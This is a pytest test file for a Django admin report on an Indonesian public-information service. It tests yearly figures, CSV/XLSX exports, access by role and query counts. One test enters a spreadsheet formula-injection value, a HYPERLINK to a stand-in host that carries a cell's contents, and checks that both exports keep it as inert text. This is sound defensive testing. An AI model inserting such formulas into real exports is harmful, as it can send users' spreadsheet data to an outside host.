"""The yearly report of the information service ("Laporan Layanan Informasi"): the figures of a known
year, the admin screen, its CSV and XLSX exports, who may read it, and its bounded queries."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import json
import re
from html import unescape
from pathlib import Path

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook

from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ppid.models import InformationRequest, Objection
from ppid.report import build_report, default_year, due_date
from ppid.rules import ROLES, Decision, ObjectionDecision, Role
from ppid.working_days import WIB
from sop_workflow.models import HariLibur
from sop_workflow.sop import ROLES as SOP_ROLES
from sop_workflow.sop import Role as SopRole
from tests.conftest import PASSWORD
from tests.sop_workflow.admin_helpers import assert_refused
from tests.sop_workflow.admin_helpers import login as admin_login
from tests.sop_workflow.test_admin_indonesian import recorder  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

URL = "/admin/ppid/laporan/"
#: when the report is read: mid-January 2027, so the default year is 2026 (its report is due 31 March)
NOW = dt.datetime(2027, 1, 15, 10, 0, tzinfo=WIB)

FIELDS = dict(
    address="Jl. Pahlawan 1, Semarang",
    occupation="Mahasiswa",
    phone="081234567890",
    information="Data rekapitulasi DPT 2024 per kabupaten.",
    purpose="Penelitian.",
    access_method="salinan",
    copy_format="softcopy",
    delivery="email",
)
#: the requesters' names and emails: none of them may appear on the public statistics
REQUESTERS = [(f"Pemohon Rahasia {n}", f"pemohon{n}@contoh.id") for n in range(1, 10)]
BASIS_H = "Pasal 17 huruf h UU 14/2008"
BASIS_B = "Pasal 17 huruf b UU 14/2008"


def wib(year, month, day, hour=9, minute=0) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, tzinfo=WIB)


def receive(when: dt.datetime, n: int) -> InformationRequest:
    name, email = REQUESTERS[n - 1]
    with freeze_time(when):
        return InformationRequest.receive(name=name, email=email, **FIELDS)


def answer(request, when, decision, legal_basis="", user=None):
    with freeze_time(when):
        request.record_answer(decision=decision, answer="Jawaban.", user=user, legal_basis=legal_basis)


def extend(request, when):
    with freeze_time(when):
        request.extend("Informasi tersebar di beberapa satuan kerja.", None)


def object_to(request, when, ground):
    with freeze_time(when):
        return Objection.receive(request=request, ground=ground, reason="Keberatan pemohon.")


def answer_objection(objection, when, decision):
    with freeze_time(when):
        objection.record_answer(
            decision=decision,
            answer="Tanggapan.",
            user=None,
            superior_name="Atasan",
            superior_position="Sekretaris",
        )


def make_known_year() -> dict:
    """Requests and objections of 2026 with known figures (see each line); Thursday 19 March 2026
    (Nyepi) and 1 January 2027 are holidays, so a plain weekday count would be wrong.

    Working days to answer: 4, 10, 16, 12, 1, 1 -> sorted 1, 1, 4, 10, 12, 16: average 44 / 6 = 7,3,
    median (4 + 10) / 2 = 7, longest 16.
    """
    HariLibur.objects.create(tanggal=dt.date(2026, 3, 19), nama="Hari Suci Nyepi")
    HariLibur.objects.create(tanggal=dt.date(2027, 1, 1), nama="Tahun Baru Masehi")
    # Monday 2 March, answered Friday 6 March: 4 working days, given.
    r1 = receive(wib(2026, 3, 2), 1)
    answer(r1, wib(2026, 3, 6, 14), Decision.GIVEN)
    # Friday 13 March afternoon; the holiday moves its deadline to Monday 30 March, answered that day:
    # 10 working days (11 weekdays), on time; given in part.
    r2 = receive(wib(2026, 3, 13, 15), 2)
    answer(r2, wib(2026, 3, 30, 15), Decision.PARTLY, BASIS_H)
    # Monday 16 March, due 31 March, extended to 9 April, answered 8 April: 16 working days, within
    # the extension; refused on the same basis written differently.
    r3 = receive(wib(2026, 3, 16), 3)
    extend(r3, wib(2026, 3, 27))
    answer(r3, wib(2026, 4, 8), Decision.REFUSED, "  pasal 17   HURUF h UU 14/2008 ")
    # Wednesday 1 April, due 15 April, answered Friday 17 April: 12 working days, late; not held.
    r4 = receive(wib(2026, 4, 1, 10), 4)
    answer(r4, wib(2026, 4, 17), Decision.NOT_HELD)
    # Monday 4 May, answered the next day: 1 working day; refused.
    r5 = receive(wib(2026, 5, 4), 5)
    answer(r5, wib(2026, 5, 5), Decision.REFUSED, BASIS_B)
    # Monday 1 June, never answered: overdue since 16 June.
    r6 = receive(wib(2026, 6, 1), 6)
    # 31 December 23.30 WIB (16.30 UTC): still 2026; answered Monday 4 January 2027 after the New Year
    # holiday and the weekend: 1 working day, given.
    r7 = receive(wib(2026, 12, 31, 23, 30), 7)
    answer(r7, wib(2027, 1, 4), Decision.GIVEN)
    # 1 January 2027 00.30 WIB (31 December 17.30 UTC): 2027, not 2026.
    receive(wib(2027, 1, 1, 0, 30), 8)
    # One request of 2025.
    receive(wib(2025, 11, 3), 9)

    # Objections of 2026: one answered in time, one answered late, one pending past its deadline.
    o1 = object_to(r4, wib(2026, 4, 20), "g")
    answer_objection(o1, wib(2026, 4, 27), ObjectionDecision.UPHELD)
    o2 = object_to(r3, wib(2026, 4, 13), "a")
    answer_objection(o2, wib(2026, 6, 10), ObjectionDecision.DISMISSED)  # due 25 May
    object_to(r6, wib(2026, 6, 17), "c")
    return {"requests": [r1, r2, r3, r4, r5, r6, r7]}


@pytest.fixture
def known_year(db):
    return make_known_year()


@pytest.fixture
def ppid_users(db):
    """One user per PPID role (desk, PPID, Atasan PPID), in the groups the migration made."""
    User = get_user_model()
    users = {}
    for role, info in ROLES.items():
        user = User.objects.create_user(
            username=f"uji-{info.demo_username}", password=PASSWORD, email=f"{info.demo_username}@kpu.test"
        )
        user.groups.add(Group.objects.get(name=info.group_name))
        users[role] = user
    return users


def login(user):
    """Sign in at NOW, when the report is read (a session lasts one working shift from its login)."""
    with freeze_time(NOW):
        return admin_login(user)


def get(client, params=""):
    with freeze_time(NOW):
        return client.get(URL + params)


def get_path(client, path):
    with freeze_time(NOW):
        return client.get(path)


def table_rows(response, marker: str) -> dict[str, list[str]]:
    """The rows of the tables whose class contains ``marker``, as text keyed by their row header."""
    html = response.content.decode()
    found = {}
    for table in re.findall(rf'<table class="listing {marker}".*?</table>', html, re.S):
        for row in re.findall(r"<tr>(.*?)</tr>", table, re.S):
            raw = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
            cells = [unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", cell))).strip() for cell in raw]
            if cells:
                found.setdefault(cells[0], cells[1:])
    return found


# --- the figures --------------------------------------------------------------------------------
def test_figures_of_a_known_year(known_year):
    with freeze_time(NOW):
        report = build_report(2026)
    assert (report.received, report.answered, report.unanswered, report.unanswered_overdue) == (7, 6, 1, 1)
    assert report.extended == 1
    assert report.days == [1, 1, 4, 10, 12, 16]
    assert (report.average_days, report.median_days, report.max_days) == (7.3, 7, 16)
    assert (report.average_days_display, report.median_days_display) == ("7,3", "7")
    assert (report.on_time, report.within_extension, report.late) == (4, 1, 1)
    assert {row.key: row.count for row in report.decisions} == {
        Decision.GIVEN: 2,
        Decision.PARTLY: 1,
        Decision.NOT_HELD: 1,
        Decision.REFUSED: 2,
    }
    # Refusals by legal basis: case and spaces do not split a basis; the first writing names it.
    assert [(row.label, row.refused, row.partly) for row in report.refusal_bases] == [
        (BASIS_H, 1, 1),
        (BASIS_B, 1, 0),
    ]
    assert report.objections_received == 3
    assert {row.key: row.count for row in report.objection_grounds if row.count} == {"a": 1, "c": 1, "g": 1}
    assert [row.count for row in report.objection_grounds] == [1, 0, 1, 0, 0, 0, 1]
    assert {row.key: row.count for row in report.objection_decisions} == {
        ObjectionDecision.UPHELD: 1,
        ObjectionDecision.UPHELD_IN_PART: 0,
        ObjectionDecision.DISMISSED: 1,
        "": 1,
    }
    assert (report.objections_in_time, report.objections_late, report.objections_pending) == (1, 1, 1)
    assert report.objections_pending_overdue == 1
    months = {row.month: (row.requests, row.answered, row.objections) for row in report.months}
    assert months[3] == (3, 3, 0)
    assert months[4] == (1, 1, 2)
    assert months[5] == (1, 1, 0)
    assert months[6] == (1, 0, 1)
    assert months[12] == (1, 1, 0)
    assert sum(row.requests for row in report.months) == 7
    assert report.due_on == dt.date(2027, 3, 31)


def test_the_office_year_decides_which_year_a_request_counts_in(known_year):
    with freeze_time(NOW):
        assert build_report(2027).received == 1  # received 1 January 00.30 WIB
        assert build_report(2025).received == 1
        empty = build_report(2024)
    assert empty.is_empty and empty.average_days is None and empty.average_days_display == "–"


@pytest.mark.parametrize(
    "today, year",
    [
        (dt.date(2027, 1, 1), 2026),
        (dt.date(2027, 3, 31), 2026),  # its report is due today
        (dt.date(2027, 4, 1), 2027),
        (dt.date(2027, 12, 31), 2027),
    ],
)
def test_default_year_is_last_year_until_the_end_of_march(today, year):
    assert default_year(today) == year
    assert due_date(2026) == dt.date(2027, 3, 31)


# --- the screen ---------------------------------------------------------------------------------
@pytest.fixture
def ppid_client(ppid_users):
    return login(ppid_users[Role.PPID])


def test_the_screen_shows_the_figures_of_the_default_year(known_year, ppid_client):
    response = get(ppid_client)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Laporan layanan informasi tahun 2026" in html
    assert "paling lambat <strong>31 Maret 2027</strong>" in html
    assert "Tersisa 75 hari." in html
    rows = table_rows(response, "ppid-laporan__tabel")
    assert rows["Permohonan diterima"] == ["7"]
    assert rows["Sudah dijawab"] == ["6"]
    assert rows["Belum dijawab"] == ["1"]
    assert rows["Belum dijawab dan melewati batas waktu"] == ["1"]
    assert rows["Diperpanjang (7 hari kerja)"] == ["1"]
    assert rows["Rata-rata"] == ["7,3"] and rows["Median"] == ["7"] and rows["Terlama"] == ["16"]
    assert rows["Dalam 10 hari kerja"] == ["4", "66,7%"]
    assert rows["Dalam masa perpanjangan"] == ["1", "16,7%"]
    assert rows["Melewati batas waktu"] == ["1", "16,7%"]
    assert rows["Permohonan ditolak"] == ["2", "33,3%"]
    assert rows["Keberatan diterima"] == ["3"]
    assert rows["Ditanggapi dalam 30 hari kerja"] == ["1"]
    assert rows["Belum ditanggapi"] == ["1"]
    assert rows["g. Penyampaian informasi melebihi waktu yang diatur"] == ["1"]
    assert rows["Keberatan ditolak: keputusan PPID dikuatkan"] == ["1"]
    reasons = table_rows(response, "ppid-laporan__alasan")
    assert reasons[BASIS_H] == ["1", "1"] and reasons[BASIS_B] == ["1", "0"]
    months = table_rows(response, "ppid-laporan__bulan")
    assert months["Maret"] == ["3", "3", "0"] and months["April"] == ["1", "1", "2"]
    assert months["Jumlah"] == ["7", "6", "3"]


def test_another_year_is_chosen_and_a_bad_one_falls_back_to_the_default(known_year, ppid_client):
    chosen = get(ppid_client, "?tahun=2025")
    assert "Laporan layanan informasi tahun 2025" in chosen.content.decode()
    assert table_rows(chosen, "ppid-laporan__tabel")["Permohonan diterima"] == ["1"]
    assert "Batas waktu itu sudah lewat." in chosen.content.decode()  # 31 March 2026
    running = get(ppid_client, "?tahun=2027").content.decode()
    assert "Tahun 2027 belum berakhir: angka masih dapat bertambah." in running
    for bad in ("1999", "2030", "bukan-tahun"):
        response = get(ppid_client, f"?tahun={bad}")
        assert response.status_code == 200
        assert "Laporan layanan informasi tahun 2026" in response.content.decode()


def test_a_year_without_requests_says_so(ppid_client):
    html = get(ppid_client).content.decode()
    assert "Belum ada permohonan informasi maupun keberatan yang diterima pada tahun 2026." in html


def test_chart_is_an_accessible_inline_svg(known_year, ppid_client):
    html = get(ppid_client).content.decode()
    svg = re.search(r'<svg class="ppid-chart".*?</svg>', html, re.S).group(0)
    assert 'role="img"' in svg and 'aria-labelledby="laporan-grafik-judul laporan-grafik-uraian"' in svg
    assert "Permohonan informasi yang diterima per bulan, tahun 2026</title>" in svg
    assert "Terbanyak pada bulan Maret: 3 permohonan." in svg
    bars = re.findall(r'<rect x="44" y="[\d.]+" width="([\d.]+)" height="16" fill="#0f7b7d">', svg)
    assert bars == ["270.0", "90.0", "90.0", "90.0", "90.0"]  # March (the most), April, May, June, December
    assert not re.search(r'(?:width|x|y)="\d+,\d', svg)  # numbers in SVG attributes are never localised


def ppid_strings() -> set[str]:
    """The string literals of the ppid app's code: written in Indonesian where a person reads them."""
    root = Path(settings.BASE_DIR) / "ppid"
    return {
        node.value
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    }


def test_the_screen_reads_in_indonesian(known_year, ppid_client, recorder):  # noqa: F811
    for where, params in (("laporan", ""), ("laporan 2025", "?tahun=2025"), ("tahun salah", "?tahun=x")):
        recorder.where = where
        assert get(ppid_client, params).status_code == 200
    recorder.where = "hasil"
    assert get_path(ppid_client, URL + "hasil/?tahun=2025&_w_filter_fragment=1").status_code == 200
    # The recorder knows the other apps' own (Indonesian) strings; ppid's are added here.
    untranslated = {
        msgid: where for msgid, where in recorder.untranslated.items() if msgid not in ppid_strings()
    }
    assert not untranslated, untranslated


# --- the exports --------------------------------------------------------------------------------
PREAMBLE = 7  # report, year, period, as of, legal basis, due date, a blank line; then the table


def csv_lines(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_states_its_year_period_and_legal_basis_and_holds_the_figures(known_year, ppid_client):
    response = get(ppid_client, "?tahun=2026&export=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="laporan-layanan-informasi-2026.csv"' in response["Content-Disposition"]
    lines = csv_lines(response)
    assert lines[0] == ["Laporan", "Laporan Layanan Informasi Publik KPU Provinsi Jawa Tengah"]
    assert lines[1] == ["Tahun", "2026"]
    assert lines[2] == ["Periode (tanggal diterima, WIB)", "01-01-2026 s.d. 31-12-2026"]
    assert lines[3] == ["Keadaan per", "15-01-2027 10.00 WIB"]
    assert lines[4][0] == "Dasar hukum" and "Nomor 14 Tahun 2008" in lines[4][1] and "Pasal 12" in lines[4][1]
    assert "Komisi Informasi Nomor 1 Tahun 2021" in lines[4][1]
    assert lines[5] == ["Batas penyampaian laporan", "31-03-2027"]
    assert lines[6] == []
    assert lines[PREAMBLE] == ["Bagian", "Uraian", "Jumlah", "Satuan"]
    figures = {(line[0], line[1]): line[2:] for line in lines[PREAMBLE + 1 :]}
    assert figures[("Permohonan", "Permohonan diterima")] == ["7", "permohonan"]
    assert figures[("Waktu menjawab", "Rata-rata")] == ["7,3", "hari kerja"]  # decimal comma
    assert figures[("Waktu menjawab", "Median")] == ["7", "hari kerja"]
    assert figures[("Waktu menjawab", "Terlama")] == ["16", "hari kerja"]
    assert figures[("Waktu menjawab", "Dijawab dalam masa perpanjangan")] == ["1", "permohonan"]
    assert figures[("Keputusan", "Permohonan ditolak")] == ["2", "permohonan"]
    assert figures[("Alasan penolakan: ditolak", BASIS_H)] == ["1", "permohonan"]
    assert figures[("Alasan penolakan: diberikan sebagian", BASIS_H)] == ["1", "permohonan"]
    assert figures[("Keberatan", "Belum ditanggapi")] == ["1", "keberatan"]
    assert figures[
        ("Keberatan per alasan", "a. Permohonan informasi ditolak berdasarkan alasan pengecualian (Pasal 17)")
    ]
    assert figures[("Permohonan diterima per bulan", "Maret")] == ["3", "permohonan"]
    assert figures[("Keberatan diterima per bulan", "April")] == ["2", "keberatan"]


def test_xlsx_export_has_a_named_sheet_and_numbers_as_numbers(known_year, ppid_client):
    response = get(ppid_client, "?export=xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["Laporan Layanan Informasi"]
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][:2] == ("Tahun", 2026)
    assert values[2][:2] == ("Periode (tanggal diterima, WIB)", "01-01-2026 s.d. 31-12-2026")
    assert values[5][:2] == ("Batas penyampaian laporan", "31-03-2027")
    assert all(value is None for value in values[6])
    assert list(values[PREAMBLE]) == ["Bagian", "Uraian", "Jumlah", "Satuan"]
    cells = {(row[0].value, row[1].value): row[2] for row in list(sheet.iter_rows())[PREAMBLE + 1 :]}
    assert cells[("Permohonan", "Permohonan diterima")].value == 7
    assert cells[("Waktu menjawab", "Rata-rata")].value == 7.3
    assert cells[("Waktu menjawab", "Median")].value == 7
    assert all(cell.data_type == "n" for cell in cells.values())


def test_a_legal_basis_written_as_a_formula_stays_text_in_both_exports(ppid_client):
    formula = '=HYPERLINK("http://contoh.test/?"&A1,"klik")'
    request = receive(wib(2026, 5, 4), 1)
    answer(request, wib(2026, 5, 5), Decision.REFUSED, formula)
    lines = csv_lines(get(ppid_client, "?export=csv"))
    assert ["Alasan penolakan: ditolak", "'" + formula, "1", "permohonan"] in lines
    workbook = load_workbook(io.BytesIO(b"".join(get(ppid_client, "?export=xlsx").streaming_content)))
    cell = next(row[1] for row in workbook.active.iter_rows() if row[0].value == "Alasan penolakan: ditolak")
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix


# --- who may read it ----------------------------------------------------------------------------
def menu_labels(client) -> str:
    html = get_path(client, reverse("wagtailadmin_home")).content.decode()
    props = re.search(r'id="wagtail-sidebar-props"[^>]*>(.*?)</script>', html, re.S).group(1)
    return json.dumps(json.loads(props), ensure_ascii=False)


@pytest.mark.parametrize("role", [Role.PPID, Role.SUPERIOR])
def test_the_ppid_and_the_atasan_ppid_read_the_report_and_see_it_in_the_menu(role, ppid_users):
    client = login(ppid_users[role])
    assert get(client).status_code == 200
    assert get(client, "?export=csv").status_code == 200
    assert get_path(client, URL + "hasil/").status_code == 200
    assert "Laporan Layanan Informasi" in menu_labels(client)


def test_the_desk_without_view_report_is_refused_and_has_no_menu_item(ppid_users):
    client = login(ppid_users[Role.DESK])
    assert_refused(get(client))
    assert_refused(get(client, "?export=xlsx"))
    assert_refused(get_path(client, URL + "hasil/"))
    assert "Laporan Layanan Informasi" not in menu_labels(client)


@pytest.mark.parametrize("role", [SopRole.WEB_ADMIN, SopRole.KOMISIONER, SopRole.PENGAMPU])
def test_sop_roles_outside_the_ppid_groups_are_refused(role, sop_users):
    client = login(sop_users[role])
    assert_refused(get(client))
    assert_refused(get(client, "?export=csv"))
    assert "Laporan Layanan Informasi" not in menu_labels(client)
    assert SOP_ROLES[role].group_name not in [info.group_name for info in ROLES.values()]


def test_an_anonymous_visitor_is_sent_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302 and "/login/" in response.url


def test_a_superuser_reads_the_report(db):
    superuser = get_user_model().objects.create_superuser("admin", "admin@kpu.test", PASSWORD)
    client = login(superuser)
    assert get(client).status_code == 200
    assert "Laporan Layanan Informasi" in menu_labels(client)


# --- bounded queries ----------------------------------------------------------------------------
def test_queries_do_not_grow_with_requests(known_year, ppid_client):
    get(ppid_client)  # warm caches (content types, site, settings)
    with CaptureQueriesContext(connection) as few:
        assert get(ppid_client).status_code == 200
    requests = known_year["requests"]
    for day in range(2, 22):
        request = receive(wib(2026, 9, day), 1)
        answer(request, wib(2026, 9, day, 15), Decision.GIVEN)
        object_to(request, wib(2026, 10, day), "d")
    object_to(requests[0], wib(2026, 10, 1), "e")
    with CaptureQueriesContext(connection) as many:
        response = get(ppid_client)
    assert table_rows(response, "ppid-laporan__tabel")["Permohonan diterima"] == ["27"]
    assert len(many) == len(few), [query["sql"] for query in many.captured_queries]
    with CaptureQueriesContext(connection) as export:
        get(ppid_client, "?export=xlsx")
    assert len(export) <= len(few)
